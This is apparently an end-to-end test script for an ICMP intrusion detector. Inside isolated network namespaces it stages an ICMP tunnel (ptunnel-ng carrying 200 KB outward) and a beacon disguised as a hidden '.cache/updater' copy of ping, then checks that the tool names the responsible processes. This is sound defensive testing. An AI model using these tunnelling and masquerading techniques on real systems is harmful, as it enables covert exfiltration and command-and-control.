#!/usr/bin/env bash
# endpoint_watch.sh — end to end: `icmphound watch` on a workstation names the process, user and
# executable behind an ICMP tunnel and a beacon, and attributes an ordinary ping without a finding.
#
#   endpoint_watch.sh BIN
#
#   cli  10.77.0.10/24 eth0 ──veth── eth0 gw 10.77.0.1/24, 198.51.100.23/24 (an "outside" host)
#                                    eth1 gw 203.0.113.1/24 ──veth── eth0 ext 203.0.113.7/24
#   ext runs the ptunnel-ng proxy (kernel echo replies off, as a tunnel server does) and a TCP
#   sink on its 127.0.0.1:9000; gw forwards.
#
# In cli, with ping sockets allowed for every group (as Debian's systemd sets it):
#   - `icmphound watch -i eth0 --format jsonl --duration D` (root, drops to nobody itself);
#   - the tunnel: ptunnel-ng client as root (a raw ICMP socket) to 203.0.113.7, carrying 200 KB;
#   - the beacon: /usr/bin/ping copied to $E2E_TMP/ih-home/.cache/updater, run as nobody
#     with -p 4b21c0de -i 1 -c 8 to 198.51.100.23 (a ping socket);
#   - an ordinary `ping -c 3 10.77.0.1` as root.
# Each process writes its own pid (sh -c 'echo $$; exec ...': exec keeps the pid), so the check
# knows the right answer. Checked in the JSON lines:
#   - a tunnel-like finding (tunnel, exfiltration, external_icmp or large_payload, >= low) from
#     10.77.0.10 to 203.0.113.7 whose evidence.process is the ptunnel-ng pid, the user it runs
#     as (it drops from root to nobody by itself when its first session starts; read from
#     /proc while it tunnels) and exe /usr/bin/ptunnel-ng; and a suspicious_process finding for it;
#   - a suspicious_process finding (>= medium) to 198.51.100.23 naming the beacon's pid, user
#     nobody and the copied path;
#   - an attribution line for the ordinary ping (pid, /usr/bin/ping, root) and no finding >= low
#     to 10.77.0.1;
#   - incident lines (issue 6): while watch still runs (the output file read before it stops),
#     an incident of 10.77.0.10 holding its tunnel finding, with the endpoint_correlation
#     playbook step filled from the attributed process (not needs_data; the process named is
#     ptunnel-ng); after it stopped, the last incident line of that host lists the
#     suspicious_process findings, step 5 done, verdict malicious; every finding belongs to
#     exactly one incident (the last line of each id, ids named by a later "supersedes" left
#     out), and incident lines come before the final stats line;
#   - the live judgement ran (--judge-interval 4); a finding id is written at most twice (judged
#     live, then its final form when its record ends), never less grave the second time;
#   - the last line is a final stats line with "live": true and the capture's drop counters;
#   - while it ran, watch was uid 65534 with exactly CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH,
#     and each of its threads under the seccomp filter.
set -euo pipefail
bin=${1:?usage: endpoint_watch.sh BIN}
[[ $bin == /* ]] || bin=$PWD/$bin
. "$(dirname "$0")/lib.sh"

e2e_require ptunnel-ng socat setpriv python3 ping pgrep
e2e_init
id nobody >/dev/null 2>&1 || e2e_skip "no user nobody"

DURATION=26

e2e_ns cli
e2e_ns gw
e2e_ns ext
e2e_link cli eth0 10.77.0.10/24 gw eth0 10.77.0.1/24
e2e_link gw eth1 203.0.113.1/24 ext eth0 203.0.113.7/24
e2e_addr gw eth0 198.51.100.23/24
e2e_route cli 203.0.113.0/24 10.77.0.1
e2e_route cli 198.51.100.0/24 10.77.0.1
e2e_route ext 10.77.0.0/24 203.0.113.1
e2e_x 10 gw sysctl -qw net.ipv4.ip_forward=1
e2e_x 10 ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
e2e_x 10 cli sysctl -qw net.ipv4.ping_group_range="0 2147483647"
e2e_seal
e2e_targets_assigned 10.77.0.1 198.51.100.23 203.0.113.7

# the beacon's executable: a copy of ping in a hidden directory under a user-like home
home=$E2E_TMP/ih-home
mkdir -p "$home/.cache"
cp /usr/bin/ping "$home/.cache/updater"
chmod 755 "$home" "$home/.cache" "$home/.cache/updater"
beacon_exe=$home/.cache/updater

out=$E2E_TMP/watch.jsonl
e2e_bg $((DURATION + 30)) cli "$bin" watch -i eth0 --format jsonl -o "$out" --duration "$DURATION" \
  --stats-interval 5 --judge-interval 4 --seed 7 2>"$E2E_TMP/watch.err"
watch_pid=$E2E_LAST_PID
e2e_wait_listening "$E2E_TMP/watch.err" "$watch_pid" watch

# the watch process itself (timeout's child): its uid and capabilities once it listens
wpid=$(pgrep -P "$watch_pid" -x icmphound || true)
[[ -n $wpid ]] || e2e_fail "cannot find the icmphound process under $watch_pid"
uid=$(awk '/^Uid:/{print $2}' "/proc/$wpid/status")
capeff=$(awk '/^CapEff:/{print $2}' "/proc/$wpid/status")
capprm=$(awk '/^CapPrm:/{print $2}' "/proc/$wpid/status")
capbnd=$(awk '/^CapBnd:/{print $2}' "/proc/$wpid/status")
# CAP_DAC_READ_SEARCH = 2, CAP_SYS_PTRACE = 19: 0x80004
[[ $uid == 65534 ]] || e2e_fail "watch runs as uid $uid, expected 65534 (nobody)"
[[ $capeff == 0000000000080004 && $capprm == 0000000000080004 && $capbnd == 0000000000080004 ]] ||
  e2e_fail "watch capabilities eff=$capeff prm=$capprm bnd=$capbnd, expected 0000000000080004"
# and every thread of it (the /proc sampler too) under the seccomp filter: no ptrace with that
# capability (docs/PRIVILEGES.md)
ntask=0
for st in /proc/"$wpid"/task/*/status; do
  sc=$(awk '/^Seccomp:/{print $2}' "$st")
  [[ $sc == 2 ]] || e2e_fail "watch thread ${st%/status} has Seccomp $sc, expected 2 (filter)"
  ntask=$((ntask + 1))
done
((ntask >= 2)) || e2e_fail "watch has $ntask thread(s); the sampler's is missing"
e2e_log "watch runs as nobody with CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH only, $ntask threads under seccomp"

# the tunnel: proxy and sink outside, client inside
e2e_bg 60 ext socat -u TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr OPEN:/dev/null
e2e_bg 60 ext ptunnel-ng -v -1 -o/dev/null
sleep 1
e2e_bg 50 cli sh -c 'echo $$ > "$1"; exec ptunnel-ng -v -1 -o/dev/null -p203.0.113.7 -l2222 -r127.0.0.1 -R9000' \
  sh "$E2E_TMP/tunnel.pid"
sleep 1.5
head -c 200000 /dev/urandom >"$E2E_TMP/payload"
e2e_x 30 cli sh -c 'socat -u OPEN:"$1" TCP:127.0.0.1:2222' sh "$E2E_TMP/payload" ||
  e2e_log "socat through the tunnel ended with an error (the check below decides)"
# ptunnel-ng opens its raw socket when the first session starts and then drops to its -u user
# (nobody by default): the user to expect is the one it runs as while tunnelling, read now
tunnel_pid=$(cat "$E2E_TMP/tunnel.pid")
tunnel_uid=$(awk '/^Uid:/{print $2}' "/proc/$tunnel_pid/status" 2>/dev/null) ||
  e2e_fail "the ptunnel-ng client (pid $tunnel_pid) is not running"
tunnel_user=$(id -nu "$tunnel_uid")

# the beacon, as nobody, and the ordinary ping, as root
e2e_bg 30 cli sh -c 'echo $$ > "$1"; exec setpriv --reuid=65534 --regid=65534 --clear-groups "$2" -q -p 4b21c0de -i 1 -c 8 198.51.100.23 >/dev/null' \
  sh "$E2E_TMP/beacon.pid" "$beacon_exe"
sleep 2
e2e_x 20 cli sh -c 'echo $$ > "$1"; exec ping -q -c 3 -i 0.5 10.77.0.1 >/dev/null' sh "$E2E_TMP/ping.pid" ||
  e2e_fail "the ordinary ping failed"

# incidents as they happen: read the output while watch still runs (records are judged live
# every 4 s of packet time; the tunnel pair has not ended: that would take 15 idle minutes)
live_copy=$E2E_TMP/watch.live.jsonl
live_ok=0
for ((i = 0; i < 80; i++)); do
  kill -0 "$wpid" 2>/dev/null || break
  cp "$out" "$live_copy"
  if python3 - "$live_copy" <<'EOF'
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8") if l.strip()]
ids = {o["id"]: o for o in lines if o.get("type") == "finding"}
for o in lines:
    if o.get("type") != "incident" or o.get("primary") != "10.77.0.10":
        continue
    mine = [ids[f] for f in o.get("findings", []) if f in ids]
    step = {s["step"]: s for s in o.get("playbook", [])}.get("endpoint_correlation", {})
    if any(f["kind"] in ("tunnel", "exfiltration") for f in mine) \
       and step.get("status") in ("done", "partial") and "ptunnel-ng" in step.get("established", ""):
        sys.exit(0)
sys.exit(1)
EOF
  then
    # still running once the copy was taken: the incident was written live
    kill -0 "$wpid" 2>/dev/null && live_ok=1
    break
  fi
  sleep 0.25
done
((live_ok)) || { cut -c1-400 "$out" >&2; e2e_fail "no incident of 10.77.0.10 with its tunnel and process while watch ran"; }
e2e_log "incident of 10.77.0.10 written live ($(grep -c '"type":"incident"' "$live_copy") incident lines before the stop)"

# let watch reach its duration: it ends every record and writes the rest
wait "$watch_pid" || { cat "$E2E_TMP/watch.err" >&2; e2e_fail "icmphound watch exited with status $?"; }

beacon_pid=$(cat "$E2E_TMP/beacon.pid")
ping_pid=$(cat "$E2E_TMP/ping.pid")
e2e_log "pids: tunnel $tunnel_pid, beacon $beacon_pid, ping $ping_pid; $(wc -l <"$out") lines written"

status=0
python3 - "$out" "$tunnel_pid" "$beacon_pid" "$ping_pid" "$beacon_exe" "$tunnel_user" <<'EOF' || status=$?
import json, sys
path, tunnel_pid, beacon_pid, ping_pid, beacon_exe, tunnel_user = sys.argv[1:7]
tunnel_pid, beacon_pid, ping_pid = int(tunnel_pid), int(beacon_pid), int(ping_pid)
sev = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
lines = [json.loads(l) for l in open(path, encoding="utf-8") if l.strip()]
# findings: the last line of each id counts (a finding judged live is written again in its final
# form when its record ends); an id named by a later line's "supersedes" is gone
flines = [o for o in lines if o.get("type") == "finding"]
last_line = {}
for o in flines:
    last_line[o["id"]] = o
for o in flines:
    if o.get("supersedes") and o["supersedes"] != o["id"]:
        last_line.pop(o["supersedes"], None)
findings = list(last_line.values())
attrib = [o for o in lines if o.get("type") == "attribution"]
fails = []

def proc_is(p, pid, user, exe):
    return isinstance(p, dict) and p.get("pid") == pid and p.get("user") == user and p.get("exe") == exe

# the tunnel
tun = [f for f in findings if f["src"] == "10.77.0.10" and f["dst"] == "203.0.113.7"
       and f["kind"] in ("tunnel", "exfiltration", "external_icmp", "large_payload")
       and sev[f["severity"]] >= 1]
if not tun:
    fails.append("no tunnel-like finding >= low from 10.77.0.10 to 203.0.113.7")
elif not all(proc_is(f["evidence"].get("process"), tunnel_pid, tunnel_user, "/usr/bin/ptunnel-ng") for f in tun):
    fails.append("tunnel findings do not all name ptunnel-ng pid %d, %s: %s" %
                 (tunnel_pid, tunnel_user, [f["evidence"].get("process") or f["evidence"].get("attribution") for f in tun]))
sp_t = [f for f in findings if f["kind"] == "suspicious_process" and f["dst"] == "203.0.113.7"
        and proc_is(f["evidence"].get("process"), tunnel_pid, tunnel_user, "/usr/bin/ptunnel-ng")
        and sev[f["severity"]] >= 2 and "T1095" in f["mitre"]]
if not sp_t:
    fails.append("no suspicious_process finding for the ptunnel-ng client")

# the beacon
sp_b = [f for f in findings if f["kind"] == "suspicious_process" and f["dst"] == "198.51.100.23"]
if not sp_b:
    fails.append("no suspicious_process finding to 198.51.100.23")
elif not any(proc_is(f["evidence"].get("process"), beacon_pid, "nobody", beacon_exe)
             and sev[f["severity"]] >= 2 and f["evidence"].get("process", {}).get("match") == "echo-id"
             for f in sp_b):
    fails.append("the beacon's suspicious_process does not name pid %d, nobody, %s: %s" %
                 (beacon_pid, beacon_exe, [f["evidence"].get("process") for f in sp_b]))
other_b = [f for f in findings if f["dst"] == "198.51.100.23" and f["kind"] != "suspicious_process"]
for f in other_b:
    if not proc_is(f["evidence"].get("process"), beacon_pid, "nobody", beacon_exe):
        fails.append("%s finding to 198.51.100.23 does not name the beacon: %s" %
                     (f["kind"], f["evidence"].get("process") or f["evidence"].get("attribution")))

# the ordinary ping
pa = [a for a in attrib if a.get("dst") == "10.77.0.1"
      and proc_is(a.get("process"), ping_pid, "root", "/usr/bin/ping")]
if not pa:
    fails.append("the ordinary ping (pid %d) has no attribution line: %s" %
                 (ping_pid, [a for a in attrib if a.get("dst") == "10.77.0.1"]))
elif pa[0].get("suspicious") is not False:
    fails.append("the ordinary ping is called suspicious")
loud = [f for f in findings if f["dst"] == "10.77.0.1" and sev[f["severity"]] >= 1]
if loud:
    fails.append("the ordinary ping got findings >= low: %s" % [(f["kind"], f["severity"]) for f in loud])

# incidents: the last line of each id counts; an id named by a later line's "supersedes" is gone
incidents = {}
for o in lines:
    if o.get("type") == "incident":
        incidents[o["id"]] = o
for o in lines:
    if o.get("type") == "incident" and o.get("supersedes") and o["supersedes"] != o["id"]:
        incidents.pop(o["supersedes"], None)
# each id at most twice: judged live, then its final form (never less grave than before)
sevs = ["info", "low", "medium", "high", "critical"]
fids = [f["id"] for f in flines]
if any(fids.count(i) > 2 for i in fids):
    fails.append("a finding id was written more than twice: %s" % sorted({i for i in fids if fids.count(i) > 2}))
for i in set(fids):
    seen = [sevs.index(o["severity"]) for o in flines if o["id"] == i]
    if seen != sorted(seen):
        fails.append("finding %s written again less grave: %s" % (i, seen))
owner = {}
for inc in incidents.values():
    for fid in inc.get("findings", []):
        owner.setdefault(fid, []).append(inc["id"])
for fid in fids:
    if len(owner.get(fid, [])) != 1:
        fails.append("finding %s is in %d incidents (last lines)" % (fid, len(owner.get(fid, []))))
by_id = {f["id"]: f for f in findings}
cli = [i for i in incidents.values() if i.get("primary") == "10.77.0.10"]
if len(cli) != 1:
    fails.append("%d incidents of 10.77.0.10, expected 1" % len(cli))
else:
    inc = cli[0]
    kinds = {by_id[f]["kind"] for f in inc["findings"] if f in by_id}
    step = {s["step"]: s for s in inc.get("playbook", [])}.get("endpoint_correlation", {})
    if "suspicious_process" not in kinds or not kinds & {"tunnel", "exfiltration", "external_icmp", "large_payload"}:
        fails.append("the incident of 10.77.0.10 lacks its tunnel or suspicious_process findings: %s" % sorted(kinds))
    if step.get("status") != "done":
        fails.append("endpoint_correlation of %s is %r, expected done: %s" % (inc["id"], step.get("status"), step.get("established")))
    if inc.get("verdict") != "malicious":
        fails.append("the incident of 10.77.0.10 is %s, expected malicious" % inc.get("verdict"))
inc_pos = [n for n, o in enumerate(lines) if o.get("type") == "incident"]
stats_final = [n for n, o in enumerate(lines) if o.get("type") == "stats" and o.get("final")]
if inc_pos and stats_final and max(inc_pos) > stats_final[0]:
    fails.append("an incident line comes after the final stats line")
lj = lines[-1].get("live_judgement", {}) if lines else {}
if not lj.get("passes") or not lj.get("findings"):
    fails.append("the live judgement did not run or found nothing: %s" % lj)
if lines and lines[-1].get("incidents", 0) < 2:
    fails.append("the stats line counts %r incident lines" % lines[-1].get("incidents"))

# the stats line
last = lines[-1] if lines else {}
if last.get("type") != "stats" or last.get("live") is not True or last.get("final") is not True:
    fails.append("the last line is not the final live stats line")
elif not all(k in last.get("capture", {}) for k in ("ps_recv", "ps_drop", "ps_ifdrop")):
    fails.append("the stats line lacks the capture drop counters")
elif last.get("stopped_by") != "duration":
    fails.append("stopped_by is %r, expected duration" % last.get("stopped_by"))
if sum(1 for o in lines if o.get("type") == "stats") < 3:
    fails.append("fewer than 3 stats lines (periodic ones missing)")

for f in fails:
    print("e2e: FAIL:", f, file=sys.stderr)
if fails:
    sys.exit(1)
print("e2e: tunnel -> pid %d ptunnel-ng (%s); beacon -> pid %d nobody %s; ping -> pid %d attributed" %
      (tunnel_pid, ", ".join(sorted({f["kind"] for f in tun})), beacon_pid, beacon_exe, ping_pid),
      file=sys.stderr)
print("e2e: %d incident lines (%d ids), live judgement %s" %
      (sum(1 for o in lines if o.get("type") == "incident"), len(incidents), json.dumps(lj)), file=sys.stderr)
EOF
if ((status != 0)); then
  e2e_log "watch output:"
  cut -c1-600 "$out" >&2
  cat "$E2E_TMP/watch.err" >&2
  e2e_fail "endpoint attribution checks failed"
fi
e2e_log "ok: tunnel, beacon and ordinary ping attributed to the right processes"
